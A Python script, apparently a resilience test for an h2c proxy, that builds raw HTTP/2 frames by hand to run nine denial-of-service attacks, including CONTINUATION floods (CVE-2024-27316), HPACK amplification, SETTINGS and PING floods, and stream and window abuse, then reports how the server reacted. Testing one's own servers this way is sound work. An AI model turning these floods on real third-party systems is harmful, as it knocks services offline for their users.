"""HTTP/2 attacks that abuse one connection's frames, each against a proxy on h2c:

    python3 h2_floods.py HOST PORT ATTACK [PATH]

ATTACK is one of:
  continuation-endless   a HEADERS frame without END_HEADERS, then CONTINUATION frames for ever
                         (CVE-2024-27316 and its siblings)
  continuation-unended   one header block in 100,000 small CONTINUATION frames that never sets
                         END_HEADERS
  hpack-amplification    a 4,000-byte header put in the HPACK table, then requests made of
                         thousands of one-byte references to it
  settings-flood         SETTINGS frames, as fast as the socket takes them
  ping-flood             PING frames, likewise
  empty-data-flood       an open stream, then DATA frames with no payload
  window-overflow        WINDOW_UPDATEs that take the connection window past 2^31 - 1
  too-many-streams       many more streams opened at once than SETTINGS_MAX_CONCURRENT_STREAMS
  zero-window            a client whose windows are 0 (SETTINGS_INITIAL_WINDOW_SIZE 0, the
                         connection's never opened) opening 1,000 streams to PATH (default
                         /v1/big) and holding them for 10 s: nothing can be sent to it

Frames are built by hand (struct, and hpack for header blocks), so nothing in a client library
stops them. Prints one JSON object: what was sent, the GOAWAY error code if one came, whether
the server closed, whether it stopped reading for 3 s (`stalled`: the attack held off by
backpressure), the streams it refused or reset, and the seconds taken.
"""
import json
import socket
import struct
import sys
import time

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Connection:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.buffer = b""
        self.goaway = None
        self.closed = False
        # The server stopped reading for this long (TCP backpressure): the attack is held off.
        self.stalled = False
        self.resets = 0
        self.headers_received = 0
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.authority = f"{host}:{port}"

    def send(self, data):
        if self.closed or self.stalled:
            return False
        previous = self.sock.gettimeout()
        try:
            self.sock.settimeout(3)
            self.sock.sendall(data)
            return True
        except socket.timeout:
            self.stalled = True
            return False
        except (BrokenPipeError, ConnectionResetError):
            self.closed = True
            return False
        finally:
            # Back as it was: a SETTINGS ACK is sent from inside `poll`, which must not block.
            self.sock.settimeout(previous)

    def poll(self, timeout=0.0):
        """Reads what the server sent, without waiting unless `timeout`."""
        if timeout > 0:
            self.sock.settimeout(timeout)
        else:
            self.sock.setblocking(False)
        end = time.monotonic() + timeout
        try:
            while timeout == 0 or time.monotonic() < end:
                data = self.sock.recv(65536)
                if not data:
                    self.closed = True
                    break
                self.buffer += data
                self.parse()
                if timeout > 0 and (self.goaway is not None or self.closed):
                    break
        except (BlockingIOError, socket.timeout, InterruptedError):
            pass
        except (ConnectionResetError, BrokenPipeError):
            self.closed = True
        finally:
            self.sock.setblocking(True)

    def parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM:
                self.resets += 1
            elif kind == HEADERS:
                self.headers_received += 1
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))

    def request_block(self, path="/v1/chat/completions", extra=()):
        return self.encoder.encode([(":method", "GET"), (":path", path), (":scheme", "http"),
                                    (":authority", self.authority), *extra])

    def finish(self, seconds=5):
        deadline = time.monotonic() + seconds
        while self.goaway is None and not self.closed and time.monotonic() < deadline:
            self.poll(0.2)


def attack(conn, name, path="/v1/big"):
    sent = 0
    started = time.monotonic()
    limit_seconds = 20

    def running():
        return conn.goaway is None and not conn.closed and not conn.stalled and time.monotonic() - started < limit_seconds

    if name == "continuation-endless":
        block = conn.request_block()
        conn.send(frame(HEADERS, END_STREAM, 1, block))
        piece = frame(CONTINUATION, 0, 1, hpack.Encoder().encode([("x-filler", "a" * 1000)]))
        while running():
            conn.send(piece * 16)
            sent += 16
            conn.poll()
    elif name == "continuation-unended":
        block = conn.request_block()
        conn.send(frame(HEADERS, END_STREAM, 1, block[:1]))
        rest = block[1:] + b"\x00" * 100_000
        for index in range(0, min(len(rest), 100_000)):
            if not running():
                break
            if not conn.send(frame(CONTINUATION, 0, 1, rest[index:index + 1])):
                break
            sent += 1
            if sent % 256 == 0:
                conn.poll()
    elif name == "hpack-amplification":
        big = ("x-big", "b" * 4000)
        # Put it in the table (incremental indexing), then refer to it thousands of times.
        first = conn.request_block(extra=[big])
        conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, first))
        index = 62  # the newest dynamic entry
        reference = bytes([0x80 | 0x3E])  # indexed field 62 (fits the 7-bit prefix)
        stream = 3
        while running() and stream < 2000:
            block = conn.request_block() + reference * 4000
            conn.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
            stream += 2
            sent += 1
            conn.poll()
        del index
    elif name == "settings-flood":
        while running():
            conn.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100)
            sent += 100
            conn.poll()
    elif name == "ping-flood":
        while running():
            conn.send(frame(PING, 0, 0, b"\x00" * 8) * 100)
            sent += 100
            conn.poll()
    elif name == "empty-data-flood":
        block = conn.request_block()
        conn.send(frame(HEADERS, END_HEADERS, 1, block))
        while running():
            conn.send(frame(DATA, 0, 1) * 100)
            sent += 100
            conn.poll()
    elif name == "window-overflow":
        conn.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
        conn.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
        sent = 2
    elif name == "zero-window":
        conn.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
        for stream in range(1, 2001, 2):
            if not conn.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, conn.request_block(path=path))):
                break
            sent += 1
        hold_until = time.monotonic() + 10
        while time.monotonic() < hold_until and not conn.closed:
            conn.poll(0.5)
        # Held: the server neither closed nor sent more than it may.
        return {"attack": name, "frames_sent": sent, "goaway_error_code": conn.goaway, "closed": conn.closed,
                "stalled": conn.stalled, "resets_received": conn.resets, "responses_received": conn.headers_received,
                "held": True, "seconds": round(time.monotonic() - started, 3)}
    elif name == "too-many-streams":
        stream = 1
        while running() and stream < 2 * 1000:
            conn.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, conn.request_block()))
            stream += 2
            sent += 1
        conn.poll(0.5)
    else:
        sys.exit(f"unknown attack {name}")
    conn.finish()
    return {"attack": name, "frames_sent": sent, "goaway_error_code": conn.goaway, "closed": conn.closed,
            "stalled": conn.stalled,
            "resets_received": conn.resets, "responses_received": conn.headers_received,
            "seconds": round(time.monotonic() - started, 3)}


if __name__ == "__main__":
    print(json.dumps(attack(Connection(sys.argv[1], int(sys.argv[2])), sys.argv[3], *sys.argv[4:5])))
